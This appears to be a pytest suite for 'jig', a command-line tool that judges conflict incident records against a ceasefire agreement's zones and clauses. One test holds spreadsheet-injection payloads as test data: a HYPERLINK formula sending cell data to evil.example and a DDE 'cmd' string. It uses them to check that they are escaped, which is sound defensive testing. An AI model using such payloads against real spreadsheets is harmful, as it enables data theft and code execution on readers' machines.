"""What an analyst reads, as the `jig` process writes it: stdout, stderr and the files of -o."""

from __future__ import annotations

import csv
import io
import json
import math
import shutil
from pathlib import Path

import pytest
from tests.conftest import BASE, EXAMPLE, box, collection, feature
from tests.test_cli import AGREEMENT, INCIDENTS, NOTICES, jig

from jig.engine.wording import percent

HEADER = "id,time,lon,lat,precision_m,actor,target,act,weapon,source,notes"


def example_rows() -> list[str]:
    return (EXAMPLE / "incidents.csv").read_text(encoding="utf-8").splitlines()[1:]


def test_validate_says_valid_on_stdout_on_one_line_even_into_a_pipe():
    r = jig("validate", AGREEMENT)
    assert r.returncode == 0 and r.stderr == ""
    [line] = r.stdout.splitlines()
    assert line.startswith("valid syria-2016-jig: 2 parties, 5 actors, 3 zones, 4 sites")
    assert len(line) > 80  # one line, not wrapped at a terminal's 80 columns


def test_the_table_into_a_pipe_or_a_file_is_not_wrapped_and_ends_no_line_in_spaces(tmp_path):
    """Rich wraps at 80 columns where stdout is not a terminal: grep saw "line" on one line
    and "4" on the next. Into a pipe, as into a file, every line is whole."""
    piped = jig("check", AGREEMENT, INCIDENTS, "-n", NOTICES)
    assert piped.returncode == 0
    jig("check", AGREEMENT, INCIDENTS, "-n", NOTICES, "-o", str(tmp_path / "t.txt"))
    to_file = (tmp_path / "t.txt").read_text(encoding="utf-8")
    for text in (piped.stdout, to_file):
        lines = text.splitlines()
        assert [ln for ln in lines if ln.startswith("A-03 ")] == [
            f"A-03 undetermined  {INCIDENTS}, line 4"]
        assert max(len(ln) for ln in lines) > 200  # reasons whole, beyond COLUMNS and 200
        assert not [ln for ln in lines if ln.endswith(" ")]
    summary = jig("check", AGREEMENT, INCIDENTS, "--summary").stdout
    assert "no-bombing-in-designated-areas" in summary


def test_version_and_help_read_as_written():
    r = jig("--version")
    assert r.returncode == 0 and r.stdout.startswith("jig ") and r.stdout.split()[1][0].isdigit()
    r = jig("check", "--help")
    assert r.returncode == 0
    assert "<bool>" not in r.stdout
    lines = [ln.strip() for ln in r.stdout.splitlines()]
    # The example is printed as written, one command per line, not re-flowed.
    assert "jig check examples/syria-2016-jig/agreement.yaml \\" in lines
    assert ("examples/syria-2016-jig/incidents.csv -n examples/syria-2016-jig/notices.csv"
            in lines)
    assert "--summary" in r.stdout and "--verdict" in r.stdout


def test_deconflict_table_is_longitude_first_and_in_words():
    r = jig("deconflict", AGREEMENT, str(EXAMPLE / "air-notices.csv"))
    assert r.returncode == 0, r.stderr
    [line] = [ln for ln in r.stdout.splitlines() if "conflict RU-1" in ln]
    assert "at lon 37.55472, lat 34.82878," in line
    assert "{" not in line and "horizontal_m" not in line
    assert "inside the minima by 9.3 km horizontally, 3,000 ft vertically and 70 min in time" \
        in line
    assert r.stdout.startswith("1 conflict (minima")
    assert "; 1 conflict\n" in r.stderr and "1 conflicts" not in r.stderr


def test_explain_names_a_missing_target_in_words(tmp_path):
    src = tmp_path / "one.csv"
    src.write_text(HEADER + "\nT-1,2016-08-01T10:00,36.675,35.648,0,"
                   "Military Forces of Syria (2000-),,air_strike,,,\n", encoding="utf-8")
    r = jig("explain", AGREEMENT, str(src), "-i", "T-1")
    assert r.returncode == 0, r.stderr
    assert "target: the record names none" in r.stdout
    assert "None" not in r.stdout


def test_a_rejected_date_is_quoted_whole(tmp_path):
    src = tmp_path / "dates.csv"
    src.write_text(HEADER + "\nD-1,05/03/2024,36.675,35.648,0,Military Forces of Syria "
                   "(2000-),,air_strike,,,\n", encoding="utf-8")
    r = jig("check", AGREEMENT, str(src), "-f", "jsonl")
    assert r.returncode == 0 and r.stdout == ""
    assert "'05/03/2024'" in r.stderr and "line 2" in r.stderr


def test_geojson_keeps_every_input_field_and_adds_flat_columns(tmp_path):
    src = tmp_path / "extra.csv"
    src.write_text(HEADER + ",analyst\n"
                   "G-1,2016-09-15T07:00,37.145,36.252,0,Military Forces of Syria (2000-),,"
                   "other,tank,observer sighting,Tank in the strip,R. K.\n"
                   "G-2,2016-07-25T09:30,36.60,35.589,5000,Government of Syria,Syrian "
                   "insurgents,shelling,,party report,Straddles DA-1,\n", encoding="utf-8")
    out = tmp_path / "out.geojson"
    r = jig("check", AGREEMENT, str(src), "-f", "geojson", "-o", str(out))
    assert r.returncode == 0 and r.stdout == "", r.stderr
    feats = {f["id"]: f["properties"] for f in json.loads(out.read_text())["features"]}
    g1 = feats["G-1"]
    assert (g1["weapon"], g1["source"], g1["notes"], g1["analyst"]) == (
        "tank", "observer sighting", "Tank in the strip", "R. K.")
    assert (g1["verdict"], g1["clause"], g1["zone"], g1["p"]) == (
        "breach", "castello-road-demilitarised", "DMZ-CASTELLO", None)
    g2 = feats["G-2"]
    assert (g2["verdict"], g2["clause"], g2["zone"]) == (
        "undetermined", "no-bombing-in-designated-areas", "DA-1")
    assert g2["p"] == pytest.approx(0.35, abs=0.01)
    assert {f["clause"] for f in g2["findings"]} >= {"no-bombing-in-designated-areas"}


def test_a_folder_of_incident_files_is_read_by_the_local_engine(tmp_path):
    rows = example_rows()
    parts = tmp_path / "parts"
    parts.mkdir()
    (parts / "a.csv").write_text("\n".join([HEADER, *rows[:10]]) + "\n", encoding="utf-8")
    (parts / "b.csv").write_text("\n".join([HEADER, *rows[10:]]) + "\n", encoding="utf-8")
    (parts / "README.md").write_text("not incidents\n", encoding="utf-8")
    whole = jig("check", AGREEMENT, INCIDENTS, "-n", NOTICES, "-f", "jsonl")
    split = jig("check", AGREEMENT, str(parts), "-n", NOTICES, "-f", "jsonl")
    assert split.returncode == 0, split.stderr
    assert split.stdout == whole.stdout
    assert "read 28 incident rows: judged 28, rejected 0" in split.stderr


def test_output_is_written_whole_or_not_at_all(tmp_path):
    good = tmp_path / "good.csv"
    good.write_text("\n".join([HEADER, *example_rows()]) + "\n", encoding="utf-8")
    bad = tmp_path / "latin1.csv"
    # A header that is not UTF-8 fails its whole file (a bad byte in a row costs that row).
    bad.write_bytes((HEADER + ",caf\xe9\nL-1,2016-08-01,36.6,35.8,0,x,,,,,,\n").encode("latin-1"))
    out = tmp_path / "findings.jsonl"
    out.write_text("the previous run\n", encoding="utf-8")
    r = jig("check", AGREEMENT, str(good), str(bad), "-f", "jsonl", "-o", str(out))
    assert r.returncode == 2
    assert "latin1.csv" in r.stderr and "UTF-8" in r.stderr
    assert r.stdout == ""
    assert out.read_text(encoding="utf-8") == "the previous run\n"  # untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["findings.jsonl", "good.csv",
                                                          "latin1.csv"]
    r = jig("check", AGREEMENT, str(good), "-f", "jsonl", "-o", str(out))
    assert r.returncode == 0 and r.stdout == ""
    assert len(out.read_text(encoding="utf-8").splitlines()) == 28
    assert oct(out.stat().st_mode & 0o777) != oct(0o600)  # not the temporary file's mode


def test_verdict_filter_writes_only_those_and_counts_all():
    r = jig("check", AGREEMENT, INCIDENTS, "-n", NOTICES, "-f", "jsonl",
            "--verdict", "breach,undetermined")
    assert r.returncode == 0, r.stderr
    rows = [json.loads(line) for line in r.stdout.splitlines()]
    assert {row["verdict"] for row in rows} == {"breach", "undetermined"}
    assert len(rows) == 8 + 7
    assert "breach 8, undetermined 7, excepted 3, complies 6, not_applicable 4" in r.stderr
    # The table's closing counts are of every verdict too, not zeros for those left out.
    table = jig("check", AGREEMENT, INCIDENTS, "-n", NOTICES, "--verdict", "breach")
    assert table.stdout.splitlines()[-1].split() == [
        "breach", "8", "undetermined", "7", "excepted", "3", "complies", "6", "not_applicable", "4"]
    r = jig("check", AGREEMENT, INCIDENTS, "--verdict", "breach,maybe")
    assert r.returncode == 2 and "unknown maybe" in r.stderr


def test_a_column_spelt_wrong_is_warned_of_before_judging(tmp_path):
    """A new user's review: a `precison_m` column was kept as an extra field, the 10 km disc
    lost and an uncertain act a breach, without a word. jig still judges the file as written
    (a column it does not read is kept), but says which column looks like which field."""
    typo = tmp_path / "typo.csv"
    typo.write_text("id,time,lon,lat,precison_m,actor,target,Act,notes\n"
                    "V-1,2016-08-10,36.68,35.65,10000,Military Forces of Syria,,shelling,x\n")
    r = jig("check", AGREEMENT, str(typo), "-f", "jsonl")
    assert r.returncode == 0, r.stderr
    warned = [line for line in r.stderr.splitlines() if line.startswith("warning")]
    assert warned == [
        f"warning {typo}, line 1: column 'precison_m' is not one jig reads, and 'precision_m' "
        "is missing: did you mean 'precision_m'? (its values are kept as given, not judged)",
        f"warning {typo}, line 1: column 'Act' is not one jig reads, and 'act' is missing: did "
        "you mean 'act'? (its values are kept as given, not judged)"]
    assert "warning" not in jig("check", AGREEMENT, INCIDENTS, "-f", "jsonl").stderr


def test_summary_counts_findings_by_clause_actor_and_zone():
    full = jig("check", AGREEMENT, INCIDENTS, "-n", NOTICES, "-f", "jsonl")
    findings = [(f["outcome"], f["clause"]) for line in full.stdout.splitlines()
                for f in json.loads(line)["findings"]]
    r = jig("check", AGREEMENT, INCIDENTS, "-n", NOTICES, "--summary", "-f", "csv")
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    by_clause = [row for row in rows if row["clause"] and row["outcome"] != "not_applicable"]
    assert sum(int(row["findings"]) for row in by_clause) == len(findings)
    assert {"outcome": "breach", "clause": "agreed-targets-only", "actor": "RU", "zone": "",
            "findings": "4"} in rows
    zones = [row for row in rows if row["zone"]]
    assert {"outcome": "breach", "clause": "", "actor": "", "zone": "DA-1",
            "findings": "3"} in zones
    table = jig("check", AGREEMENT, INCIDENTS, "-n", NOTICES, "--summary")
    assert "findings by outcome, clause and actor" in table.stdout
    assert "no-bombing-in-designated-areas" in table.stdout  # not cut to the terminal width
    assert "A-01" not in table.stdout


def test_notices_are_counted_and_one_naming_no_incident_is_warned(tmp_path):
    notes = tmp_path / "notices.csv"
    text = (EXAMPLE / "notices.csv").read_text(encoding="utf-8").rstrip("\n")
    header = text.splitlines()[0].split(",")
    row = dict.fromkeys(header, "")
    row |= {"id": "N-99", "party": "RU", "time": "2016-08-05T08:00",
            "exception": "imminent-threat", "incident": "A-999"}
    notes.write_text(text + "\n" + ",".join(row[h] for h in header) + "\n", encoding="utf-8")
    r = jig("check", AGREEMENT, INCIDENTS, "-n", str(notes), "-f", "jsonl")
    assert r.returncode == 0, r.stderr
    assert "read 5 notices: taken 5, rejected 0" in r.stderr
    [warning] = [ln for ln in r.stderr.splitlines() if ln.startswith("warning")]
    assert "line 6" in warning and "N-99" in warning and "'A-999'" in warning


def test_percentages_never_read_zero_or_certain():
    assert percent(0.0004) == "<0.1%" and percent(0.9996) == ">99.9%"
    assert percent(0.35) == "35%" and percent(0.004) == "0.4%"
    assert percent(0.0) == "0.0%" and percent(1.0) == "100.0%"


ZONES = collection(feature(box(36.0, 35.0, 36.2, 35.2), id="Z-1", kind="designated"))
CLAUSES = """\
zones: zones.geojson
clauses:
  - {id: no-strikes, rule: no_strikes_in, bound: [BF], acts: [air_strike], zones: {kind: designated}}
  - {id: no-tanks, rule: no_weapons_in, bound: [BF], weapons: [tank], zones: {kind: designated}}
"""


@pytest.fixture
def small(tmp_path: Path) -> Path:
    (tmp_path / "zones.geojson").write_text(json.dumps(ZONES), encoding="utf-8")
    path = tmp_path / "agreement.yaml"
    path.write_text(BASE + CLAUSES, encoding="utf-8")
    return path


def findings_of(agreement: Path, tmp_path: Path, rows: list[str], *args: str
                ) -> dict[str, dict]:
    src = tmp_path / "incidents.csv"
    src.write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    r = jig("check", str(agreement), str(src), "-f", "jsonl", *args)
    assert r.returncode == 0, r.stderr
    return {row["incident"]: row for row in map(json.loads, r.stdout.splitlines())}


def test_a_tiny_probability_reads_below_a_tenth_of_a_percent(small, tmp_path):
    # A 5 km disc whose centre lies about 4,950 m east of Z-1's east edge (36.2 E): a sliver inside.
    lon = 36.2 + 4950 / (111_320 * math.cos(math.radians(35.1)))
    out = findings_of(small, tmp_path, [f"P-1,2016-08-01T12:00,{lon:.6f},35.1,5000,B forces,,"
                                        "air_strike,,,"])
    [f] = out["P-1"]["findings"]
    assert f["outcome"] == "undetermined" and 0 < f["p"] < 0.001
    assert "estimated probability <0.1% that it lies inside" in f["reason"]
    table = jig("check", str(small), str(tmp_path / "incidents.csv"))
    assert "undetermined p<0.001  no-strikes" in table.stdout and "p=0.000" not in table.stdout


def test_an_unknown_act_quotes_no_percentage(small, tmp_path):
    out = findings_of(small, tmp_path, ["U-1,2016-08-01T12:00,36.2,35.1,5000,B forces,,,,,"])
    [f] = out["U-1"]["findings"]
    assert f["outcome"] == "undetermined" and "p" not in f
    assert "%" not in f["reason"] and "the kind of act is unknown" in f["reason"]


def test_weapons_compare_case_insensitively_and_a_sighting_needs_no_act(small, tmp_path):
    out = findings_of(small, tmp_path, [
        "W-1,2016-08-01T12:00,36.1,35.1,0,B forces,,other,Tank,,",
        "W-2,2016-08-01T12:00,36.1,35.1,0,B forces,,,TANK,,",   # a sighting: no act given
        "W-3,2016-08-01T12:00,36.1,35.1,0,B forces,,Air_Strike,,,",
    ])
    assert [(f["clause"], f["outcome"]) for f in out["W-1"]["findings"]] == [
        ("no-tanks", "breach")]
    # Read as `other`: not doubted under the strike clause as an act of unknown kind.
    assert [(f["clause"], f["outcome"]) for f in out["W-2"]["findings"]] == [
        ("no-tanks", "breach")]
    assert [(f["clause"], f["outcome"]) for f in out["W-3"]["findings"]] == [
        ("no-strikes", "breach")]
    # The one-by-one path (explain) agrees with the array path.
    r = jig("explain", str(small), str(tmp_path / "incidents.csv"), "-i", "W-1")
    assert "weapon 'Tank' is one of the weapons the clause restricts" in r.stdout


def test_example_folder_copy_is_not_touched(tmp_path):
    """-o into the folder being read: the temporary file is not taken for input."""
    parts = tmp_path / "parts"
    shutil.copytree(EXAMPLE, tmp_path / "ex")
    parts.mkdir()
    shutil.copy(INCIDENTS, parts / "incidents.csv")
    r = jig("check", str(tmp_path / "ex" / "agreement.yaml"), str(parts), "-f", "jsonl",
            "-o", str(parts / "findings.jsonl"))
    assert r.returncode == 0, r.stderr
    assert sorted(p.name for p in parts.iterdir()) == ["findings.jsonl", "incidents.csv"]


def test_swapped_is_suggested_only_where_the_swap_lands_in_the_agreement(tmp_path):
    """Near 120 E a latitude of 120.5 is a longitude given in the wrong column; near Idlib the
    same row is no swap, since swapped it would lie in the Philippines' waters."""
    far_east = tmp_path / "far-east"
    far_east.mkdir()
    (far_east / "zones.geojson").write_text(json.dumps(collection(
        feature(box(120.0, 10.0, 120.2, 10.2), id="Z-1", kind="designated"))))
    (far_east / "agreement.yaml").write_text(BASE.replace("Asia/Damascus", "Asia/Manila")
                                             + CLAUSES, encoding="utf-8")
    row = "S-1,2016-08-01T12:00,10.1,120.1,0,B forces,,air_strike,,,"
    src = tmp_path / "rows.csv"
    src.write_text(HEADER + "\n" + row + "\n", encoding="utf-8")
    r = jig("check", str(far_east / "agreement.yaml"), str(src), "-f", "jsonl")
    assert "lat 120.1 is out of range" in r.stderr and "look swapped" in r.stderr
    r = jig("check", AGREEMENT, str(src), "-f", "jsonl")
    assert "lat 120.1 is out of range" in r.stderr and "look swapped" not in r.stderr


def on_a_terminal(*args: str) -> str:
    """What `jig` draws on stderr when it is a terminal (a pseudo-terminal here)."""
    import os
    import pty
    import re
    import subprocess

    from tests.test_cli import JIG

    main, child = pty.openpty()
    proc = subprocess.Popen([JIG, *args], stdout=subprocess.DEVNULL, stderr=child,
                            stdin=subprocess.DEVNULL,
                            env={"PATH": "/usr/bin:/bin", "COLUMNS": "200", "TERM": "xterm"})
    os.close(child)
    shown = b""
    while True:
        try:
            chunk = os.read(main, 65536)
        except OSError:  # the child closed its end
            break
        if not chunk:
            break
        shown += chunk
    os.close(main)
    assert proc.wait() == 0
    return re.sub(r"\[[0-9;?]*[A-Za-z]", "", shown.decode("utf-8", "replace"))


def test_progress_shows_rows_their_rate_and_the_bytes_read(tmp_path):
    from rich.filesize import decimal

    shown = on_a_terminal("check", AGREEMENT, INCIDENTS, "-n", NOTICES, "-f", "jsonl",
                          "-o", str(tmp_path / "out.jsonl"))
    assert "None" not in shown
    assert "28 rows read, " in shown and " rows/s" in shown
    size = Path(INCIDENTS).stat().st_size
    assert "/" + decimal(size) in shown  # bytes read of the known total
    assert "judged 28" in shown


def test_import_shows_progress_and_the_verdicts_it_stored(tmp_path):
    shown = on_a_terminal("import", "--data", str(tmp_path / "store"), "--agreement", AGREEMENT,
                          "-n", NOTICES, INCIDENTS)
    assert "28 rows read, " in shown and "None" not in shown
    assert ("read 28 incident rows: stored 28, unchanged 0, rejected 0; breach 8, "
            "undetermined 7, excepted 3, complies 6, not_applicable 4") in shown


def test_in_force_backwards_is_one_error_and_every_error_names_its_file(tmp_path):
    ex = tmp_path / "ex"
    shutil.copytree(EXAMPLE, ex)
    text = (ex / "agreement.yaml").read_text(encoding="utf-8")
    (ex / "agreement.yaml").write_text(text.replace(
        "in_force: {from: 2016-07-15, until: 2016-10-03}",
        "in_force: {from: 2016-10-03, until: 2016-07-15}"), encoding="utf-8")
    zones = json.loads((ex / "zones.geojson").read_text(encoding="utf-8"))
    zones["features"][0]["properties"]["valid_until"] = "2016-07-01"
    zones["features"][0]["properties"]["valid_from"] = "2016-08-01"
    (ex / "zones.geojson").write_text(json.dumps(zones), encoding="utf-8")
    r = jig("validate", str(ex / "agreement.yaml"))
    assert r.returncode == 2
    errors = [ln for ln in r.stderr.splitlines() if ln.startswith("error")]
    assert len(errors) == 2, r.stderr
    assert "line 8, in_force.until: in_force.until is not after in_force.from" in errors[0]
    first = zones["features"][0]["properties"]["id"]
    assert f"zones.geojson, feature {first}" in errors[1]
    assert "valid_until is not after valid_from" in errors[1]


def test_a_feature_id_stands_for_a_missing_id_property(tmp_path):
    ex = tmp_path / "ex"
    shutil.copytree(EXAMPLE, ex)
    zones = json.loads((ex / "zones.geojson").read_text(encoding="utf-8"))
    for f in zones["features"]:
        f["id"] = f["properties"].pop("id")  # as QGIS writes it
    zones["features"][1].pop("id")
    (ex / "zones.geojson").write_text(json.dumps(zones), encoding="utf-8")
    r = jig("validate", str(ex / "agreement.yaml"))
    [error] = [ln for ln in r.stderr.splitlines() if ln.startswith("error")]
    assert "zones.geojson, feature #1: has no `id` property (nor a Feature `id`)" in error
    zones["features"][1]["id"] = "DA-2"
    (ex / "zones.geojson").write_text(json.dumps(zones), encoding="utf-8")
    r = jig("validate", str(ex / "agreement.yaml"))
    assert r.returncode == 0 and "3 zones" in r.stdout, r.stderr
    # Incidents as a GIS exports them: the id on the Feature.
    feats = [{"type": "Feature", "id": "Q-1", "properties": {
        "time": "2016-07-20T10:15", "actor": "Military Forces of Syria (2000-)",
        "act": "air_strike"}, "geometry": {"type": "Point", "coordinates": [36.675, 35.648]}}]
    src = tmp_path / "qgis.geojson"
    src.write_text(json.dumps({"type": "FeatureCollection", "features": feats}))
    r = jig("check", AGREEMENT, str(src), "-f", "jsonl")
    assert r.returncode == 0 and json.loads(r.stdout)["incident"] == "Q-1", r.stderr


def test_an_output_folder_that_does_not_exist_is_named(tmp_path):
    target = tmp_path / "no-such-folder" / "out.jsonl"
    r = jig("check", AGREEMENT, INCIDENTS, "-f", "jsonl", "-o", str(target))
    assert r.returncode == 2 and r.stdout == ""
    assert f"error {target}: cannot write here: No such file or directory" in r.stderr
    r = jig("schema", "-o", str(target))
    assert r.returncode == 2 and "Traceback" not in r.stderr and str(target) in r.stderr


def test_ids_and_file_names_are_printed_as_given_never_as_emoji(tmp_path):
    """Rich reads `:fire:` as an emoji code, and `escape` leaves it: an id "A-01:fire:" was
    printed as "A-01🔥", a file "x:b:y.csv" as "x🅱y.csv"."""
    rows = example_rows()
    path = tmp_path / "ids.csv"
    path.write_text(HEADER + "\n" + rows[0].replace("A-01,", "A-01:fire:,", 1) + "\n",
                    encoding="utf-8")
    for args in (("check", AGREEMENT, str(path)),
                 ("explain", AGREEMENT, str(path), "-i", "A-01:fire:")):
        r = jig(*args)
        assert r.returncode == 0, r.stderr
        assert "A-01:fire:" in r.stdout and "🔥" not in r.stdout
    r = jig("check", AGREEMENT, str(tmp_path / "x:b:y.csv"))
    assert r.returncode == 2 and "x:b:y.csv" in r.stderr and "🅱" not in r.stderr


def test_a_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path):
    """One party's incident id "=HYPERLINK(...)" ran in the other party's spreadsheet when it
    opened the CSV: every such cell is written after an apostrophe, on both paths."""
    rows = example_rows()
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
               "-2+3", "@SUM(1+1)"]
    lines = [f'"{i.replace(chr(34), chr(34) * 2)}",' + rows[k].split(",", 1)[1]
             for k, i in enumerate(hostile)]
    path = tmp_path / "hostile.csv"
    path.write_text(HEADER + "\n" + "\n".join(lines) + "\n", encoding="utf-8")
    columns = jig("check", AGREEMENT, str(path), "-f", "csv")
    one_by_one = jig("check", AGREEMENT, str(path), "-f", "csv", "--merge", "--merge-km", "0")
    assert columns.returncode == 0 and one_by_one.returncode == 0, columns.stderr
    assert columns.stdout == one_by_one.stdout
    ids = [r[0] for r in csv.reader(io.StringIO(columns.stdout))][1:]
    assert sorted(set(ids)) == sorted(f"'{i}" for i in hostile)
    # JSON Lines, for programs, keeps the ids as sent.
    lines = jig("check", AGREEMENT, str(path), "-f", "jsonl").stdout.splitlines()
    assert [json.loads(x)["incident"] for x in lines] == hostile
